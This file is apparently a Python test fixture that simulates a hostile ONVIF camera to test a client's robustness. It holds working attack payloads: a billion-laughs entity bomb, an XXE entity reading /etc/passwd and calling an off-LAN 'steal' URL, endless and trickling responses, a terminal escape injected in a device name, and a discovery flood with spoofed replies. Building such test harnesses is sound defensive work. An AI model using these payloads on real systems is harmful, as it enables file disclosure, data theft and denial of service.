#!/usr/bin/env python3
"""A hostile ONVIF camera for the end-to-end tests (stdlib only). One HTTP port per
misbehaviour on ONVIF_ADDR, each answering every SOAP call (GetSystemDateAndTime first)
with its trick; prints "serving MODE PORT" per mode. Also a WS-Discovery responder on
port 3702 that answers each probe with junk, a billion-laughs packet, a reply to someone
else's probe, a flood of 1000 distinct "cameras", and one well-formed match whose
XAddr points off the LAN (198.51.100.7); prints "discovery ready".
HTTP modes:
  oversized  announces and sends 64 MiB of XML
  endless    chunked XML that never ends
  laughs     billion laughs (nested entities in a DTD)
  xxe        an external entity (file:///etc/passwd and an http URL off the LAN)
  wrong-ns   a SOAP 1.1 envelope (wrong envelope namespace)
  wrong-onvif  a SOAP 1.2 envelope whose answer is in a made-up ONVIF namespace
  slow       reads the request, then says nothing for 120 s
  trickle    sends headers, then one byte a second
  deep       elements nested 30 000 deep (210 KB: within the size limit)
"""
import ctypes, os, signal, socket, struct, sys, threading, time, uuid
from xml.etree import ElementTree as ET

ctypes.CDLL("libc.so.6", use_errno=True).prctl(1, signal.SIGTERM)  # die with the test

ADDR = os.environ["ONVIF_ADDR"]
S12 = "http://www.w3.org/2003/05/soap-envelope"
S11 = "http://schemas.xmlsoap.org/soap/envelope/"


def env(body, ns=S12):
    return ('<?xml version="1.0"?><s:Envelope xmlns:s="%s" xmlns:tt="http://www.onvif.org/ver10/schema" '
            'xmlns:tds="http://www.onvif.org/ver10/device/wsdl"><s:Body>%s</s:Body></s:Envelope>' % (ns, body)).encode()


TIME = ("<tds:GetSystemDateAndTimeResponse><tds:SystemDateAndTime><tt:UTCDateTime><tt:Time><tt:Hour>1</tt:Hour>"
        "<tt:Minute>2</tt:Minute><tt:Second>3</tt:Second></tt:Time><tt:Date><tt:Year>2026</tt:Year><tt:Month>1</tt:Month>"
        "<tt:Day>1</tt:Day></tt:Date></tt:UTCDateTime></tds:SystemDateAndTime></tds:GetSystemDateAndTimeResponse>")
LAUGHS = ('<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY l0 "lol">'
          + "".join('<!ENTITY l%d "%s">' % (i, ("&l%d;" % (i - 1)) * 10) for i in range(1, 10))
          + ']><s:Envelope xmlns:s="%s"><s:Body>&l9;</s:Body></s:Envelope>' % S12).encode()
XXE = ('<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY x SYSTEM "file:///etc/passwd">'
       '<!ENTITY y SYSTEM "http://198.51.100.7/steal">]><s:Envelope xmlns:s="%s"><s:Body>&x;&y;</s:Body></s:Envelope>'
       % S12).encode()


def head(conn, length=None, chunked=False):
    h = "HTTP/1.1 200 OK\r\nContent-Type: application/soap+xml\r\n"
    if length is not None:
        h += "Content-Length: %d\r\n" % length
    if chunked:
        h += "Transfer-Encoding: chunked\r\n"
    conn.sendall((h + "\r\n").encode())


def read_request(conn):
    data = b""
    while b"\r\n\r\n" not in data:
        got = conn.recv(65536)
        if not got:
            return False
        data += got
    hdr, _, rest = data.partition(b"\r\n\r\n")
    n = 0
    for line in hdr.split(b"\r\n"):
        if line.lower().startswith(b"content-length:"):
            n = int(line.split(b":")[1])
    while len(rest) < n:
        got = conn.recv(65536)
        if not got:
            break
        rest += got
    return True


def send_whole(conn, body):
    head(conn, len(body))
    conn.sendall(body)


def handle(mode, conn):
    try:
        conn.settimeout(150)
        if not read_request(conn):
            return
        if mode == "oversized":
            head(conn, 64 << 20)
            chunk = b"<tt:Pad>" + b"x" * 65000 + b"</tt:Pad>"
            conn.sendall(env("") [:60] + b"")
            for _ in range(1024):
                conn.sendall(chunk)
        elif mode == "endless":
            head(conn, chunked=True)
            piece = b"<a>" * 2000
            conn.sendall(b"%x\r\n%s\r\n" % (len(env("")[:80]), env("")[:80]))
            while True:
                conn.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
        elif mode == "laughs":
            send_whole(conn, LAUGHS)
        elif mode == "xxe":
            send_whole(conn, XXE)
        elif mode == "wrong-ns":
            send_whole(conn, env(TIME, S11))
        elif mode == "wrong-onvif":
            send_whole(conn, env(TIME.replace("tds:", "x:").replace("tt:", "x:")
                                 .replace("<x:GetSystemDateAndTimeResponse>",
                                          '<x:GetSystemDateAndTimeResponse xmlns:x="http://www.onvif.org/ver99/made-up">')))
        elif mode == "slow":
            time.sleep(120)
        elif mode == "trickle":
            head(conn, 4096)
            for _ in range(150):
                conn.sendall(b"<")
                time.sleep(1)
        elif mode == "deep":
            send_whole(conn, b"<a>" * 30000 + b"</a>" * 30000)
    except OSError:
        pass
    finally:
        conn.close()


def serve(mode):
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((ADDR, 0))
    srv.listen(16)
    print("serving %s %d" % (mode, srv.getsockname()[1]), flush=True)
    while True:
        conn, _ = srv.accept()
        threading.Thread(target=handle, args=(mode, conn), daemon=True).start()


def match(relates, endpoint, xaddr):
    return ('<?xml version="1.0"?><s:Envelope xmlns:s="%s" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" '
            'xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery"><s:Header><a:RelatesTo>%s</a:RelatesTo></s:Header>'
            '<s:Body><d:ProbeMatches><d:ProbeMatch><a:EndpointReference><a:Address>%s</a:Address></a:EndpointReference>'
            '<d:Scopes>onvif://www.onvif.org/name/Evil%%1B%%5B31mCorp onvif://www.onvif.org/hardware/H4X</d:Scopes>'
            '<d:XAddrs>%s</d:XAddrs></d:ProbeMatch></d:ProbeMatches></s:Body></s:Envelope>'
            % (S12, relates, endpoint, xaddr)).encode()


def discovery():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("", 3702))
    mreq = struct.pack("4s4s", socket.inet_aton("239.255.255.250"), socket.inet_aton(ADDR))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, mreq)
    print("discovery ready", flush=True)
    while True:
        data, src = sock.recvfrom(65536)
        try:
            msg_id = ET.fromstring(data).findtext(".//{http://schemas.xmlsoap.org/ws/2004/08/addressing}MessageID", "")
        except ET.ParseError:
            continue
        if "NetworkVideoTransmitter" not in data.decode(errors="replace"):
            continue  # one burst per discovery run
        sock.sendto(b"\x00junk" * 100, src)
        sock.sendto(LAUGHS, src)
        sock.sendto(b"<" * 60000, src)
        sock.sendto(match("uuid:someone-else", "urn:uuid:other", "http://10.78.0.2/x"), src)
        sock.sendto(match(msg_id, "urn:uuid:" + str(uuid.uuid4()), "http://198.51.100.7/onvif/device_service"), src)
        for i in range(1000):
            sock.sendto(match(msg_id, "urn:uuid:flood-%d" % i, "http://10.78.0.2:9/onvif/device_service"), src)


for m in ("oversized", "endless", "laughs", "xxe", "wrong-ns", "wrong-onvif", "slow", "trickle", "deep"):
    threading.Thread(target=serve, args=(m,), daemon=True).start()
    time.sleep(0.05)
threading.Thread(target=discovery, daemon=True).start()
signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
while True:
    time.sleep(3600)
